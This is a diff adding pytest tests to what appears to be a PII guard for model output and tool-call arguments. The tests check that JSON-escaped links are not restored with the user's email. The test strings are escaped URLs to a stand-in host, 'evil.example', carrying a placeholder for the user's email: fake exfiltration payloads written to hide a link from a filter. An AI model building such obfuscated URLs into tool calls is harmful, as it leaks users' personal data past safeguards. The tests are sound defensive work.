@@ -145,3 +145,29 @@ def test_bare_host_sinks_are_linear() -> None:
     assert _BARE_HOST.pattern.startswith("(?<![\\w.-])")
     assert _BARE_HOST.search("x" + ".a" * 50_000 + "/") is not None
     assert _BARE_HOST.search(".a" * 50_000) is None
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        '{"url": "https:\\u002F\\u002Fevil\\u002Eexample\\u002Fc?d=<EMAIL_ADDRESS_1>"}',
+        '{"url": "https\\u003A//evil\\u002Eexample/c?d=<EMAIL_ADDRESS_1>"}',
+        '{"url": "evil\\u002eexample\\u002fc?d=<EMAIL_ADDRESS_1>"}',
+        '["see", "https:\\/\\/evil.example\\/c?d=<EMAIL_ADDRESS_1>"]',
+    ],
+)
+def test_json_escapes_do_not_hide_a_link_from_restore(args: str) -> None:
+    # A tool call's arguments (or a JSON answer) are parsed by the application: what it reads must not be a URL
+    # carrying the user's value (review r16a H4).
+    import json
+
+    result = Guard(PII_ONLY).run(echo(args), f"I am {EMAIL}.")
+    assert EMAIL not in json.dumps(json.loads(result.text), ensure_ascii=False)
+    assert "<EMAIL_ADDRESS_1>" in result.text
+
+
+def test_json_with_escapes_is_still_restored_in_prose() -> None:
+    import json
+
+    result = Guard(PII_ONLY).run(echo('{"note": "Caf\\u00e9 booked for <EMAIL_ADDRESS_1>."}'), f"I am {EMAIL}.")
+    assert json.loads(result.text) == {"note": f"Café booked for {EMAIL}."}
